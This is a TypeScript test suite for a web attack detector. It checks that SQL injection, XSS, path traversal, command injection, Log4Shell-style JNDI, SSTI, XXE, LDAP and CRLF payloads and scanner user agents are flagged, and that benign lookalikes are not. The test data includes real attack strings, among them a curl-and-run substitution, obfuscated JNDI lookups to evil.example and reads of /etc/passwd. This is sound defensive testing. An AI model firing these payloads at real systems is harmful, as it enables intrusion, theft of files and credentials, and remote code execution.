// Each detector on attacks of its category and on ordinary values that look a little like them.
import { q, rawQuery, category, rule, request } from "../detect/testing";
import { DetectOptions, inspectRequest, Finding } from "../detect/engine";

describe("SQL injection", () => {
  it("finds tautologies, UNION, stacked queries, comments after a closed literal and attack functions", () => {
    expect(category(q("1' or '1'='1"))).toBe("sqli");
    expect(category(q("admin'--"))).toBe("sqli");
    expect(rule(q("-1 union select 1,2,version()"))).toBe("sqli.union");
    expect(category(q("1; drop table users--"))).toBe("sqli");
    expect(category(q("1 and sleep(5)"))).toBe("sqli");
    expect(category(q("1) and elt(4249=4249,7259) and (8226=8226"))).toBe("sqli");
    expect(category(q('x" or "a"="a'))).toBe("sqli");
    expect(category(q("'; exec master..xp_cmdshell 'ping 10.10.1.2'--"))).toBe("sqli");
    expect(category(q("1 order by 3--"))).toBe("sqli");
    expect(category(q("(select load_file('/etc/passwd'))"))).toBe("sqli");
  });

  it("leaves prose, names and product text alone", () => {
    expect(category(q("D AND D DICE"))).toBe("none");
    expect(category(q("Family and friends having meal outdoors"))).toBe("none");
    expect(category(q("O'Reilly and Sons"))).toBe("none");
    expect(category(q("JACK-O'-LANTERN?"))).toBe("none");
    expect(category(q("Same as reward #1 however"))).toBe("none");
    expect(category(q("Apt is gated; call when you get here"))).toBe("none");
    expect(category(q("rock 'n' roll or jazz"))).toBe("none");
    expect(category(q("2 or 3 bedrooms"))).toBe("none");
  });
});

describe("XSS", () => {
  it("finds script tags, event handlers, script URLs, payload calls and CSS expressions", () => {
    expect(rule(q("<script>alert(1)</script>"))).toBe("xss.script-tag");
    expect(rule(q("<img src=x onerror=alert(1)>"))).toBe("xss.event-handler");
    expect(rule(q('" onmouseover="alert(1)'))).toBe("xss.event-handler");
    expect(category(q('<a href="javascript:alert(document.cookie)">x</a>'))).toBe("xss");
    expect(category(q("<svg/onload=prompt`1`>"))).toBe("xss");
    expect(category(q('<div style="width: expression(alert(1))">'))).toBe("xss");
    expect(category(q("<iframe src=//evil.example>"))).toBe("xss");
    expect(category(q("[1].some(confirm)"))).toBe("xss");
  });

  it("leaves text with angle brackets, colons and the word JavaScript alone", () => {
    expect(category(q("I <3 <3 THE DOCTOR"))).toBe("none");
    expect(category(q("JavaScript: Basics of JavaScript Language"))).toBe("none");
    expect(category(q("a < b and c > d"))).toBe("none");
    expect(category(q("online=yes"))).toBe("none");
    expect(category(q("<b>bold</b> text"))).toBe("none");
  });
});

describe("path traversal and file inclusion", () => {
  it("finds dot-dot steps, sensitive files and wrappers", () => {
    expect(rule(q("../../../../etc/passwd"))).toBe("traversal.dot-dot");
    expect(category(q("..\\..\\windows\\win.ini"))).toBe("traversal");
    expect(rule(q("/etc/shadow"))).toBe("traversal.sensitive-file");
    // PHP's own wrappers belong to the php family (php.spec.ts); traversal.wrapper keeps the others.
    expect(rule(q("php://filter/convert.base64-encode/resource=index.php"))).toBe("php.stream-wrapper");
    expect(category(q("file:///etc/passwd"))).toBe("traversal");
    expect(category(q("....//....//etc/hosts"))).toBe("traversal");
    expect(category(q("WEB-INF/web.xml"))).toBe("traversal");
  });

  it("leaves ellipses, relative words and ordinary paths alone", () => {
    expect(category(q("wait..."))).toBe("none");
    expect(category(q("..."))).toBe("none");
    expect(category(q("images/2024/photo.jpg"))).toBe("none");
    expect(category(q("c/ caridad s/n"))).toBe("none");
  });
});

describe("command injection", () => {
  it("finds chained commands, substitutions, $IFS and shellshock", () => {
    expect(category(q("; cat /etc/passwd"))).toBe("cmdi");
    expect(category(q("| id"))).toBe("cmdi");
    expect(category(q("127.0.0.1 && whoami"))).toBe("cmdi");
    expect(category(q("`uname -a`"))).toBe("cmdi");
    expect(category(q("$(curl http://x.example/s.sh)"))).toBe("cmdi");
    expect(rule(q("cat${IFS}/etc/passwd"))).toBe("cmdi.ifs");
    expect(rule(q("() { :;}; /bin/bash -c id"))).toBe("cmdi.shellshock");
    expect(category(q("; c'a't /e't'c/hosts"))).toBe("cmdi");
    expect(category(q("&& net user hacker Passw0rd /add"))).toBe("cmdi");
    expect(category(q("whoami"))).toBe("cmdi");
  });

  it("leaves lists, ampersands and English command words alone", () => {
    expect(category(q("Tom & Jerry"))).toBe("none");
    expect(category(q("salt & pepper; more to come"))).toBe("none");
    expect(category(q("Java; PHP; Python"))).toBe("none");
    expect(category(q("id"))).toBe("none");
    expect(category(q("find the best cat food"))).toBe("none");
  });
});

describe("JNDI lookups", () => {
  it("finds plain and obfuscated lookups", () => {
    expect(category(q("${jndi:ldap://evil.example/a}"))).toBe("jndi");
    expect(category(q("${${lower:j}ndi:ldap://evil.example/a}"))).toBe("jndi");
    expect(category(q("${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}"))).toBe("jndi");
    expect(category(q("${${env:NaN:-j}ndi${env:NaN:-:}ldap://x/a}"))).toBe("jndi");
    expect(category(q("${${upper:j}${lower:N}di:dns://x}"))).toBe("jndi");
  });

  it("leaves template-looking text alone", () => {
    expect(category(q("price: ${amount} EUR"))).toBe("none");
    expect(category(q('{ "a": 1 }'))).toBe("none");
  });
});

describe("extras: SSTI, NoSQL injection, XXE", () => {
  it("finds them", () => {
    expect(category(q("{{7*7}}"))).toBe("ssti");
    expect(category(q("{{ ''.__class__.__mro__[1].__subclasses__() }}"))).toBe("ssti");
    expect(category(q('{"$gt": ""}'))).toBe("nosqli");
    expect(category(q('<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'))).toBe("xxe");
  });
});

describe("LDAP injection", () => {
  it("finds composite filters, breakouts and extensible matches", () => {
    expect(rule(q("*(|(objectclass=*))"))).toBe("ldapi.composite-filter");
    expect(rule(q("(&(uid=admin)(!(&(1=0)(userPassword=q))))"))).toBe("ldapi.composite-filter");
    expect(rule(q("*)(uid=*))(|(uid=*"))).toBe("ldapi.filter-breakout");
    expect(rule(q("admin*)((|userPassword=*)"))).toBe("ldapi.filter-breakout");
    expect(rule(q("*)(&"))).toBe("ldapi.filter-breakout");
    expect(rule(q("userPassword:2.5.13.18:=123"))).toBe("ldapi.extensible-match");
    expect(rule(q("cn:dn:=admin"))).toBe("ldapi.extensible-match");
  });
  it("leaves parentheses in prose and code, times and ratios alone", () => {
    expect(category(q("f(x)(y)"))).toBe("none");
    expect(category(q("Smith (born 1970) (retired)"))).toBe("none");
    expect(category(q("if (!(done)) retry"))).toBe("none");
    expect(category(q("(a & b) | (c)"))).toBe("none");
    expect(category(q("at 12:30:= sharp"))).toBe("none");
  });
});

describe("CRLF injection", () => {
  it("finds response headers, status lines and mail commands after a line break", () => {
    expect(rule(q("x\r\nSet-Cookie: crlf=injection"))).toBe("crlf.header");
    expect(rule(rawQuery("q=%250d%250aSet-cookie%3Acrlf%3Dinjection"))).toBe("crlf.header");
    expect(rule(rawQuery("q=%e5%98%8dSet-cookie%3acrlf%3dinjection"))).toBe("crlf.header");
    expect(rule(q("x\r\nLocation: https://evil.example/"))).toBe("crlf.header");
    expect(rule(q("x\r\n\r\nHTTP/1.1 200 OK"))).toBe("crlf.header");
    expect(rule(q("\nRCPT TO: test@evil.example\n"))).toBe("crlf.mail-command");
    expect(rule(q("\r\nQUIT\r\n"))).toBe("crlf.mail-command");
    expect(rule(q("\r\nV100 CAPABILITY\r\nV101 FETCH 4791"))).toBe("crlf.mail-command");
  });
  it("leaves multi-line text with ordinary labels alone", () => {
    expect(category(q("Name: Ann\nLocation: Berlin\nNote: ring twice"))).toBe("none");
    expect(category(q("Dear team,\nI quit smoking.\nA1 select grade"))).toBe("none");
    expect(category(q("line one\r\ncontent is fine"))).toBe("none");
    expect(category(q("嘍 ok"))).toBe("none");
  });
});

/** The User-Agent through the scanner category alone (Nmap's agent, "...; Nmap Scripting Engine", is cmdi first). */
function agent(ua: string): Finding | null {
  const opts = new DetectOptions();
  opts.categories = ["scanner"];
  return inspectRequest(request("/", "", ["User-Agent"], [ua], "", ""), opts);
}

describe("security scanners", () => {
  it("finds attack and scanning tools named in the User-Agent, as whole tokens in any case", () => {
    expect(
      rule(inspectRequest(request("/", "", ["User-Agent"], ["sqlmap/1.7.4#stable (https://sqlmap.org)"], "", ""), new DetectOptions())),
    ).toBe("scanner.user-agent");
    expect(agent("Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:map_codes)")!.location).toBe("header:user-agent");
    expect(category(agent("Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"))).toBe("scanner");
    expect(category(agent("masscan/1.3 (https://github.com/robertdavidgraham/masscan)"))).toBe("scanner");
    expect(category(agent("Mozilla/5.0 zgrab/0.x"))).toBe("scanner");
    expect(category(agent("Nuclei - Open-source project (github.com/projectdiscovery/nuclei)"))).toBe("scanner");
    expect(category(agent("Fuzz Faster U Fool v2.1.0-dev"))).toBe("scanner");
    expect(category(agent("gobuster/3.6"))).toBe("scanner");
    expect(category(agent("Mozilla/5.0 [en] (X11, U; OpenVAS-VT 22.4.1)"))).toBe("scanner");
    expect(category(agent("WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)"))).toBe("scanner");
    expect(category(agent("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Acunetix-Product"))).toBe("scanner");
    expect(category(agent("Arachni/v1.6.1.3"))).toBe("scanner");
    expect(category(agent("commix/v3.8 (https://commixproject.com)"))).toBe("scanner");
    expect(category(agent("Mozilla/5.0 x7k2.oastify.com"))).toBe("scanner");
    expect(category(agent("curl/8.4.0 root@c0ffee.interact.sh"))).toBe("scanner");
    expect(category(agent("http://abc123.burpcollaborator.net/ iPhone"))).toBe("scanner");
    // Netsparker's own header, read even though the policy does not list it.
    const x = inspectRequest(request("/", "", ["X-Scanner"], ["Netsparker"], "", ""), new DetectOptions())!;
    expect(x.category).toBe("scanner");
    expect(x.location).toBe("header:x-scanner");
  });

  it("leaves browsers, HTTP libraries, probes, monitoring agents and tool names in other places alone", () => {
    expect(agent("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36")).toBeNull();
    expect(
      agent(
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
      ),
    ).toBeNull();
    expect(agent("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0")).toBeNull();
    expect(agent("curl/8.4.0")).toBeNull();
    expect(agent("python-requests/2.31.0")).toBeNull();
    expect(agent("python-httpx/0.27.0")).toBeNull();
    expect(agent("Go-http-client/1.1")).toBeNull();
    expect(agent("kube-probe/1.29")).toBeNull();
    expect(agent("Prometheus/2.51.0")).toBeNull();
    expect(agent("Datadog Agent/7.52.0")).toBeNull();
    expect(agent("ELB-HealthChecker/2.0")).toBeNull();
    expect(agent("Googlebot/2.1 (+http://www.google.com/bot.html)")).toBeNull();
    expect(agent("okhttp/4.12.0")).toBeNull();
    expect(agent("Envoy/HC")).toBeNull();
    expect(inspectRequest(request("/", "", ["User-Agent"], ["Datadog Agent/7.52.0"], "", ""), new DetectOptions())).toBeNull();
    expect(agent("Bitmapper/1.0 (roast-beef; coast)")).toBeNull(); // names inside longer words
    expect(agent("Fuzz tester (faster builds; U-Boot; Fool's Gold)")).toBeNull(); // words of a spelled-out name, apart
    expect(agent("BE TRUE 2 U")).toBeNull();
    // A tool's name in a query value or another header is not a scanner announcing itself.
    expect(category(q("how to use sqlmap"))).toBe("none");
    expect(
      inspectRequest(request("/", "", ["Referer"], ["https://github.com/sqlmapproject/sqlmap"], "", ""), new DetectOptions()),
    ).toBeNull();
  });

  it("is a category of its own", () => {
    const opts = new DetectOptions();
    opts.categories = ["sqli", "xss"];
    expect(inspectRequest(request("/", "", ["User-Agent"], ["sqlmap/1.7"], "", ""), opts)).toBeNull();
  });
});
